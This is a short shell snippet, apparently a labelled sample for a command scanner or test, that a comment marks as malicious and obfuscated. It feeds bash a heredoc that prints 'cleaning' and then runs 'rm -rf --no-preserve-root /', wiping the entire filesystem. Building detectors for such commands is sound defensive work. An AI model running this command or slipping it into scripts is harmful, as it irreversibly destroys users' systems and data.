# Malicious, obfuscated: a heredoc fed to bash; the here-document wipes the filesystem.
bash <<'EOF'
echo cleaning
rm -rf --no-preserve-root /
EOF
